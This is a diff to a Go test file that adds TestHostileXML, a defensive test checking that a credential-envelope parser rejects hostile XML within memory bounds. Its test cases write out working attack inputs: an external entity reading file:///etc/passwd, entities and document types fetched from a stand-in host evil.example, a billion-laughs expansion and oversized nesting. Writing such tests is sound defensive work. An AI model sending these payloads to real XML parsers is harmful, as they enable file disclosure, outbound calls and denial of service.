@@ -1,12 +1,14 @@
 package envelope
 
 import (
+	"runtime"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/cairnwallet/cairn/verify/fault"
 	"github.com/cairnwallet/cairn/verify/testkit"
 	"github.com/cairnwallet/cairn/verify/xmlsig"
 )
@@ -88,4 +90,38 @@ func FuzzEuropass(f *testing.F) {
 	f.Add([]byte(`<verifiablePresentation>` + europassDoc + `</verifiablePresentation>`))
 	f.Add([]byte(testkit.NewSealer(f, "ed25519", "Example School", time.Unix(0, 0)).Seal(f, europassDoc)))
 	f.Fuzz(opens)
+}
+
+// TestHostileXML: what XML can be made to do to a reader, with what it may cost
+// here. Nothing is expanded, so nothing can be looked up either.
+func TestHostileXML(t *testing.T) {
+	laughs := `<!DOCTYPE lolz [<!ENTITY a "lol">` + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">`, 10) + `]>`
+	for name, c := range map[string]struct {
+		in, code string
+		kib      uint64
+	}{
+		"an entity from a file":    {`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><europassCredential>&x;</europassCredential>`, "input.dtd", 64},
+		"an entity from the web":   {`<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/a.dtd"> %x;]><europassCredential/>`, "input.dtd", 64},
+		"a document type outside":  {`<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><europassCredential/>`, "input.dtd", 64},
+		"a billion laughs":         {laughs + `<europassCredential>&b;</europassCredential>`, "input.dtd", 64},
+		"a long comment before it": {"<!--" + strings.Repeat(" ", 1<<20) + "-->" + laughs + `<europassCredential/>`, "input.dtd", 64},
+		"an entity without a type": {"<europassCredential>&x;</europassCredential>", "input.not-json", 64},
+		"deep":                     {"<europassCredential>" + strings.Repeat("<a>", 1<<20), "input.too-many-parts", 16 << 10},
+		"wide":                     {"<europassCredential>" + strings.Repeat("<a/>", 1<<20) + "</europassCredential>", "input.too-many-parts", 160 << 10},
+		"many attributes":          {"<europassCredential " + strings.Repeat(`a="" `, 1<<20) + "/>", "input.too-many-parts", 16 << 10},
+		"text without an end":      {"<europassCredential>" + strings.Repeat("x", 16<<20), "input.truncated", 64 << 10},
+	} {
+		t.Run(name, func(t *testing.T) {
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			_, err := Open([]byte(c.in))
+			runtime.ReadMemStats(&after)
+			if fault.Code(err) != c.code {
+				t.Errorf("got %v, want %s", err, c.code)
+			}
+			if used := (after.TotalAlloc - before.TotalAlloc) >> 10; used > c.kib+uint64(len(c.in)>>10) {
+				t.Errorf("%d KiB allocated for %d KiB, want at most %d beside", used, len(c.in)>>10, c.kib)
+			}
+		})
+	}
 }
